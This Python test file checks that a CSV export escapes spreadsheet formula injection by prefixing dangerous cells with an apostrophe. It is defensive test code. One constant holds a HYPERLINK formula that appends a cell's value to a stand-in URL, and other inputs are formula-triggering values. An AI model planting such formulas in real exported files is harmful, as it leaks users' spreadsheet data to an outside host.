"""CSV that is made row by row: no text of it is a formula in a spreadsheet."""

import csv
import io

import pytest

from explorer.csv_text import csv_text
from explorer.pages._analyses_table import as_csv

FORMULA = '=HYPERLINK("http://h/"&A1)'


@pytest.mark.parametrize("text", [FORMULA, "+1", "-1+2", "@SUM(A1)", "\tx", "\r=1", "\n=1"])
def test_a_text_is_no_formula(text: str) -> None:
    """What a spreadsheet would run begins with an apostrophe, in the header too."""
    rows = list(csv.reader(io.StringIO(csv_text([[text], [text]]), newline="")))
    assert rows == [[f"'{text}"]] * 2


def test_other_values_stay() -> None:
    """Negative numbers, infinities, nothing, and texts that only hold such letters."""
    rows = [["a", "b=c", -1.5, float("-inf"), None, 3]]
    assert csv_text(rows, "\n") == "a,b=c,-1.5,-inf,,3\n"


def test_the_list_of_analyses_holds_no_formula() -> None:
    """Names and notes come from other people's catalogs, settings' names too."""
    columns: dict[str, list[object]] = {"": ["/surface"], "Analysis": [FORMULA], "=1": [-2]}
    assert list(csv.reader(io.StringIO(as_csv(columns)))) == [
        ["Analysis", "'=1"],
        [f"'{FORMULA}", "-2"],
    ]
